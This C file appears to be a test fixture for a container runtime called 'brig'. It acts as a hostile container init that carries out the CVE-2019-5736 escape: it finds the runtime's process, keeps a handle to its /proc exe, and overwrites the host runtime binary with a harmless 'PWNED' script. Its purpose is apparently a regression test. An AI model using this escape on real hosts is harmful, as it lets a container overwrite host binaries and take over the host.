/* The hostile init of t-exe-overwrite.sh for a static brig (CVE-2019-5736
 * as first published: no loader needed).
 *
 * A static brig has no loader for the image to replace, but an entrypoint
 * `#!/proc/self/exe --log=/fifo` still runs brig's binary inside the
 * container, and brig then waits in open() of its log, the image's FIFO.
 * This program is the container's init: it finds that process, keeps an
 * O_PATH fd of its /proc/<pid>/exe, lets brig go on (opens the FIFO), and
 * once brig has exited reopens the fd for writing and replaces the file.
 * If brig ran from the host binary, that is the host binary. Every step is
 * reported on stdout as "HUNT ...". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void nap(void)
{
    struct timespec ts = { 0, 10 * 1000 * 1000 };
    nanosleep(&ts, NULL);
}

/* A process other than us whose exe names brig (the host binary or a copy). */
static int hunt_find(char *exe, size_t len)
{
    DIR *d = opendir("/proc");
    if (d == NULL) return -1;
    struct dirent *e;
    int found = -1;
    while (found < 0 && (e = readdir(d)) != NULL) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char link[64];
        snprintf(link, sizeof(link), "/proc/%d/exe", pid);
        ssize_t n = readlink(link, exe, len - 1);
        if (n <= 0) continue;
        exe[n] = '\0';
        if (strstr(exe, "brig") != NULL) found = pid;
    }
    closedir(d);
    return found;
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    char exe[4096];
    int pid = -1;
    for (int i = 0; i < 6000 && pid < 0; i++) {     /* 60 s: the test's exec comes */
        pid = hunt_find(exe, sizeof(exe));
        if (pid < 0) nap();
    }
    if (pid < 0) {
        printf("HUNT no brig seen\n");
        return 1;
    }
    printf("HUNT exe=%s\n", exe);
    char link[64];
    snprintf(link, sizeof(link), "/proc/%d/exe", pid);
    int fd = open(link, O_PATH | O_CLOEXEC);
    if (fd < 0) printf("HUNT open %s: %s\n", link, strerror(errno));
    /* Let brig go on: its log is our FIFO; what it logs is echoed. */
    int fifo = open("/fifo", O_RDONLY | O_CLOEXEC);
    char buf[512];
    ssize_t n;
    while (fifo >= 0 && (n = read(fifo, buf, sizeof(buf))) > 0) {
        printf("HUNT brig says: ");
        fwrite(buf, 1, (size_t)n, stdout);
    }
    for (int i = 0; i < 500 && kill(pid, 0) == 0; i++) nap();
    if (fd < 0) {
        printf("HUNT done\n");
        return 0;
    }
    char self[64];
    snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
    int w = -1;
    for (int i = 0; i < 300 && w < 0; i++) {        /* until the file is no longer busy */
        w = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (w < 0 && errno != ETXTBSY) break;
        if (w < 0) nap();
    }
    if (w < 0) {
        printf("HUNT reopen for writing: %s\n", strerror(errno));
    } else {
        static const char pwn[] = "#!/bin/sh\necho PWNED by the container\n";
        ssize_t k = write(w, pwn, sizeof(pwn) - 1);
        printf("HUNT wrote %zd: %s\n", k, k < 0 ? strerror(errno) : "the exe is replaced");
    }
    printf("HUNT done\n");
    return 0;
}
